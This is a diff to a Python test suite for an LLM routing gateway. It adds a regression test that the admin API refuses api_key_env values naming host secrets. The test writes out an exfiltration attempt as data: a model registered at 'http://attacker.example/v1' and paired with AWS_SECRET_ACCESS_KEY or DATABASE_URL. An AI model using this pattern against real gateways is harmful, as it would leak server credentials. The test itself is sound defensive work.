@@ -195,7 +195,7 @@ def test_a_model_cannot_be_patched_to_send_the_gateways_own_keys_upstream(make_g
         assert r.status_code == 400 and r.json()["error"]["param"] == "api_key_env", r.text
         assert "configures the gateway itself" in r.json()["error"]["message"]
         assert admin(gw, "GET", "/models/a").json()["api_key_env"] is None
-        assert admin(gw, "PATCH", "/models/a", json={"api_key_env": "UNIROUTE_TEST_UPSTREAM_KEY"}).status_code == 200
+        assert admin(gw, "PATCH", "/models/a", json={"api_key_env": "UNIROUTE_TEST_UPSTREAM_API_KEY"}).status_code == 200
 
 
 def test_patch_disable_and_delete_change_routing(make_gateway, fault_upstream, model_config):
@@ -339,14 +339,37 @@ def test_a_models_spend_counts_every_job_it_had_cancelled_ones_too(make_gateway,
         assert admin(gw, "GET", "/models/m").json()["spend"] == spent + done["spend"]
 
 
+def test_the_admin_api_names_only_key_variables_it_is_allowed_to(make_gateway, fault_upstream, model_config):
+    """Before, an admin token could register a model at its own server with api_key_env naming any
+    variable of the host (AWS_SECRET_ACCESS_KEY, a database password) and be sent its value."""
+    _, url = fault_upstream
+    configured = model_config("a", url).model_copy(update={"api_key_env": "TEAM_OPENAI"})
+    body = {"name": "b", "base_url": "http://attacker.example/v1", "cost": {"per_request": 1},
+            "scores": {"x": 1.0}}
+    with make_gateway(models=[configured], admin_key=ADMIN) as gw:
+        for secret in ("AWS_SECRET_ACCESS_KEY", "DATABASE_URL", "openai_api_key"):
+            r = admin(gw, "POST", "/models", json={**body, "api_key_env": secret})
+            assert r.status_code == 400 and r.json()["error"]["param"] == "api_key_env", r.text
+            assert "admin_key_envs (*_API_KEY)" in r.json()["error"]["message"]
+            assert admin(gw, "PATCH", "/models/a", json={"api_key_env": secret}).status_code == 400
+        assert admin(gw, "GET", "/models/a").json()["api_key_env"] == "TEAM_OPENAI"
+        assert admin(gw, "GET", "/models/b").status_code == 404
+        # a provider's key by the usual name, or a variable the config file names, is fine
+        assert admin(gw, "PATCH", "/models/a", json={"api_key_env": "GROQ_API_KEY"}).status_code == 200
+        assert admin(gw, "PATCH", "/models/a", json={"api_key_env": "TEAM_OPENAI"}).status_code == 200
+    with make_gateway(models=[], admin_key=ADMIN, admin_key_envs=["AZURE_*"]) as gw:
+        ok = admin(gw, "POST", "/models", json={**body, "base_url": url, "api_key_env": "AZURE_OPENAI_KEY"})
+        assert ok.status_code == 400 and ok.json()["error"]["param"] == "scores"  # past the key check
+
+
 def test_upstream_key_never_leaks(make_gateway, fault_upstream, monkeypatch, caplog):
     secret = "sk-very-secret-value-123"
-    monkeypatch.setenv("UNIROUTE_TEST_UPSTREAM_KEY", secret)
+    monkeypatch.setenv("UNIROUTE_TEST_UPSTREAM_API_KEY", secret)
     upstream, url = fault_upstream
     caplog.set_level(logging.DEBUG)
     with make_gateway(models=[], admin_key=ADMIN) as gw:
         r = admin(gw, "POST", "/models", json={"name": "keyed", "base_url": url, "upstream_model": "keyed",
-                                                "api_key_env": "UNIROUTE_TEST_UPSTREAM_KEY",
+                                                "api_key_env": "UNIROUTE_TEST_UPSTREAM_API_KEY",
                                                 "cost": {"per_request": 1}})
         job = wait_job(gw, r.json()["job_id"])
         assert job["state"] == "done"
@@ -358,7 +381,7 @@ def test_upstream_key_never_leaks(make_gateway, fault_upstream, monkeypatch, cap
     assert upstream.received[-1].headers["authorization"] == f"Bearer {secret}"
     for text in outputs:
         assert secret not in text
-    assert "UNIROUTE_TEST_UPSTREAM_KEY" in outputs[1]
+    assert "UNIROUTE_TEST_UPSTREAM_API_KEY" in outputs[1]
 
 
 def wait_state(base_url: str, job_id: str, states: tuple[str, ...], timeout_s: float = 120) -> dict:
